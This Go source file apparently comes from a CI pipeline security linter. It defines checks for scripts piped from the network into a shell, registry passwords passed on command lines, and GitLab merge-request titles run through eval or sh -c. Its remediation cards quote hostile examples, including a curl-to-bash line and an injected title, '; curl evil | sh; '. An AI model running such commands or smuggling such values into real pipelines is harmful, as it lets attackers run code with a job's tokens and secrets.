package pipeline

import (
	"strings"

	"github.com/plimsoll/plimsoll/finding"
	"github.com/plimsoll/plimsoll/internal/read/pipeline"
	"github.com/plimsoll/plimsoll/internal/shell"
)

// commands lists the checks for what steps run.
func commands() []Check { return []Check{remoteScript(), loginOnCommandLine(), messageAsCode()} }

func remoteScript() Check {
	return Check{
		kinds: both,
		Card: card("remote-script", "a script from the network is run as it comes", finding.Medium,
			"Whoever controls that address, or breaks into it, runs code with the job's token and secrets, as happened with Codecov's uploader.",
			"Download it, compare its digest (echo \"SHA256  FILE\" | sha256sum -c -), then run it; or use a pinned action or a package.",
			steps("- run: curl -fsSL https://example.org/install.sh | bash"), steps("- run: sudo apt-get install -y tool")),
		look: func(f *pipeline.File) (hits []hit) {
			eachCommand(f, func(s *pipeline.Step, c *shell.Command) {
				from := c.Fetched()
				if from == nil {
					return
				}
				h := hit{step: s, at: c.Pos, field: "run " + c.Name + " from " + from.Name, detail: from.Name + " | " + c.Name}
				for _, w := range from.Addresses() {
					h.detail = shell.Address(w) + " to " + c.Name
					if strings.HasPrefix(w, "http://") && !shell.Local(w) {
						h.severity = finding.High
					}
				}
				hits = append(hits, h)
			})
			return hits
		},
	}
}

func loginOnCommandLine() Check {
	return Check{
		kinds: both,
		Card: card("login-on-command-line", "a registry's password stands on a command line", finding.Low,
			"Every process on the machine can read it, and set -x or an error prints it.",
			"Write: echo \"$PASSWORD\" | docker login --username \"$USER\" --password-stdin REGISTRY.",
			steps("- run: docker login -u me -p \"$PASSWORD\""), steps("- run: echo \"$PASSWORD\" | docker login -u me --password-stdin")),
		look: func(f *pipeline.File) (hits []hit) {
			eachCommand(f, func(s *pipeline.Step, c *shell.Command) {
				if !c.Is("docker", "podman", "skopeo", "buildah", "helm", "crane", "oras") || !strings.Contains(" "+joined(c), " login ") {
					return
				}
				for _, a := range c.Args {
					if a.Text == "-p" || a.Text == "--password" || strings.HasPrefix(a.Text, "--password=") {
						h := hit{step: s, at: c.Pos, field: "run " + c.Name + " login"}
						hits = append(hits, h)
						return
					}
				}
			})
			return hits
		},
	}
}

// told knows GitLab's variables that hold a stranger's own words.
var told = matcher(`\$\{?(CI_COMMIT_(MESSAGE|TITLE|DESCRIPTION|BRANCH|REF_NAME|AUTHOR|TAG_MESSAGE)|CI_MERGE_REQUEST_(TITLE|DESCRIPTION|SOURCE_BRANCH_NAME|LABELS))`)

func messageAsCode() Check {
	return Check{
		kinds: gitlab,
		Card: card("message-as-code", "a title or message is run as code", finding.High,
			"Whoever opens a merge request or pushes a branch writes it: a title such as \"; curl evil | sh; \" runs with the job's variables.",
			"Pass it as an argument or variable: never to eval or to sh -c.",
			"a:\n  script:\n    - eval \"echo $CI_MERGE_REQUEST_TITLE\"\n", "a:\n  script:\n    - echo \"$CI_MERGE_REQUEST_TITLE\"\n"),
		look: func(f *pipeline.File) (hits []hit) {
			eachCommand(f, func(s *pipeline.Step, c *shell.Command) {
				body := c.Name == "eval"
				for i, a := range c.Args {
					body = body || i > 0 && c.Is("sh", "bash", "ash") && strings.HasPrefix(c.Args[i-1].Text, "-") && strings.HasSuffix(c.Args[i-1].Text, "c")
					if body && !a.Known && told(a.Text) {
						hits = append(hits, hit{step: s, at: c.Pos, field: "run " + c.Name})
						return
					}
				}
			})
			return hits
		},
	}
}
